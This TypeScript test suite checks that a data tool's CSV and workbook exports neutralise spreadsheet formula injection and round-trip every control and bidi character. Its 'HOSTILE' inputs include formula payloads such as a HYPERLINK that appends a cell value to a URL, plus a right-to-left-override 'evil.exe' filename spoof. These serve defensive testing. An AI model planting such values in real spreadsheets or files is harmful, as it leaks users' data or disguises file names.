/**
 * Exports lose nothing and run nothing: a CSV cell a spreadsheet would evaluate is guarded by a
 * leading apostrophe, workbook text holds every character (OOXML's _xHHHH_), and export → build
 * gives the JSON's site byte for byte, for formula-like values, every control character,
 * U+FFFE/U+FFFF and bidi marks. A value too long for a workbook cell is refused with its place.
 */
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { guardFormula, unguardFormula } from "../../src/data/sources/formula-guard.ts";
import { decodeXstring, encodeXstring } from "../../src/data/sources/xstring.ts";
import { runCli } from "../run-cli.ts";
import { snapshotTree, useTempDir } from "../file-trees.ts";

const work = useTempDir();

/** Values a spreadsheet would evaluate, rewrite or drop, each a cell's whole text. */
const FORMULAS = [
  "=1+1",
  '=HYPERLINK("http://example.org/?"&A1,"klik")',
  "+385 1 234 5678",
  "-2+3",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "'=x",
  "''+y",
  "\uFF1D1",
  "\uFF0B1",
  "'plain",
  "a=b",
];
const CONTROLS = [...Array.from({ length: 0x20 }, (_, c) => `a${String.fromCharCode(c)}b`), "a\x7Fb", "a\x85b", "a\x9Fb", "\x00", "a\r\nb"];
const UNICODE = ["a\uFFFEb", "a\uFFFFb", "\u202Eevil.exe", "\u200Fx\u2066y\u2069\u200E", "_x0041_", "_x005F_x0041_", "_x00zz_", "𝕏 and ☃"];
const HOSTILE = [...FORMULAS, ...CONTROLS, ...UNICODE];

const FORMULA_START = /^'*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

describe("the formula guard (CSV)", () => {
  it("unguard(guard(x)) = x for any text, and a guarded cell never starts with what a spreadsheet evaluates", () => {
    const text = fc.oneof(
      fc.string(),
      fc.constantFrom(...FORMULAS).chain((f) => fc.string().map((s) => f + s)),
      fc.string({ unit: fc.constantFrom("'", "=", "+", "-", "@", "\t", "\r", "a") }),
    );
    fc.assert(
      fc.property(text, (value) => {
        const cell = guardFormula(value);
        expect(unguardFormula(cell)).toBe(value);
        expect(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell)).toBe(false);
      }),
      { numRuns: 2000 },
    );
  });

  it.each([
    ["=1+1", "'=1+1"],
    ["-2+3", "'-2+3"],
    ["'=x", "''=x"],
    ["'plain", "'plain"],
    ["a=b", "a=b"],
  ])("%j is written %j", (value, cell) => {
    expect(guardFormula(value)).toBe(cell);
  });
});

describe("the _xHHHH_ escape (workbooks)", () => {
  it("decode(encode(x)) = x for any UTF-16 text, and the encoded text holds only what XML keeps as it is", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: "binary" }),
        fc.string({ unit: fc.constantFrom("_", "x", "0", "0", "5", "F", "D", "\r", "\x00", "\uFFFE", "\uD800") }),
        (a, b) => {
          for (const value of [a, b, a + b]) {
            const encoded = encodeXstring(value);
            expect(decodeXstring(encoded)).toBe(value);
            // XML 1.0's Char, less CR (read as LF) and DEL (dropped by exceljs); surrogates only in pairs.
            expect(encoded).not.toMatch(/[\x00-\x08\x0B-\x1F\x7F\uFFFE\uFFFF]/);
            expect(encoded).not.toMatch(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/);
          }
        },
      ),
      { numRuns: 2000 },
    );
  });
});

describe("export -> build gives the JSON's site, whatever the values", () => {
  const data = (): string => join(work.path, "data");
  beforeAll(async () => {
    const sample = (JSON.parse(await readFile("data/subjekti.json", "utf8")) as Record<string, unknown>[]).slice(
      0,
      2 * HOSTILE.length + 10,
    );
    HOSTILE.forEach((value, i) => {
      (sample[i] as Record<string, unknown>)["naziv_subjekta"] = value;
      (sample[HOSTILE.length + i] as Record<string, unknown>)["institucija_grad"] = value;
    });
    await mkdir(data());
    await writeFile(join(data(), "subjekti.json"), JSON.stringify(sample));
    const built = await runCli(["build", "--data", data(), "--out", join(work.path, "site-json"), "--no-cache", "--quiet", "--no-feed"]);
    expect(built.code, built.stderr).toBe(0);
  }, 60_000);

  it.each(["csv", "xlsx"])(
    "%s: every hostile value comes back, byte for byte",
    async (format) => {
      const dir = join(work.path, `from-${format}`);
      await mkdir(dir);
      const exported = await runCli(["export", "--data", data(), "--out", join(dir, `subjekti.${format}`)]);
      expect(exported.code, exported.stderr).toBe(0);
      const built = await runCli([
        "build",
        "--data",
        dir,
        "--out",
        join(work.path, `site-${format}`),
        "--no-cache",
        "--quiet",
        "--no-feed",
      ]);
      expect(built.code, built.stderr).toBe(0);
      expect(await snapshotTree(join(work.path, `site-${format}`))).toEqual(await snapshotTree(join(work.path, "site-json")));
    },
    60_000,
  );

  it("csv: no cell starts with what a spreadsheet evaluates; each formula-like value is guarded by one apostrophe", async () => {
    const text = await readFile(join(work.path, "from-csv", "subjekti.csv"), "utf8");
    // The file's cells, quoted or not (the quoted ones may hold ; and line breaks).
    const cells = Array.from(text.slice(1).matchAll(/"((?:[^"]|"")*)"|([^;\r\n]*)/g), (m) =>
      m[1] === undefined ? (m[2] ?? "") : m[1].replaceAll('""', '"'),
    );
    expect(cells.filter((cell) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell))).toEqual([]);
    for (const value of FORMULAS.filter((v) => FORMULA_START.test(v))) expect(cells, value).toContain(`'${value}`);
  });
});

describe("a value a workbook cannot hold", () => {
  it("is refused with its id and field, in one line, and no file is written", async () => {
    const dir = join(work.path, "long");
    await mkdir(join(dir, "data"), { recursive: true });
    const sample = (JSON.parse(await readFile("data/subjekti.json", "utf8")) as Record<string, unknown>[]).slice(0, 3);
    (sample[1] as Record<string, unknown>)["naziv_subjekta"] = "x".repeat(40_000);
    await writeFile(join(dir, "data", "subjekti.json"), JSON.stringify(sample));
    const run = await runCli(["export", "--data", join(dir, "data"), "--out", join(dir, "out.xlsx"), "--max-field-length", "50000"]);
    expect(run.code).toBe(1);
    expect(run.stderr).toBe(
      `subjekti: id ${sample[1]?.id}: naziv_subjekta has 40000 characters, more than a workbook cell holds (32767), which Excel cuts when it saves; export as CSV (--format csv), or shorten it in the source\n`,
    );
    const { readdir } = await import("node:fs/promises");
    expect(await readdir(dir)).toEqual(["data"]);
  });
});
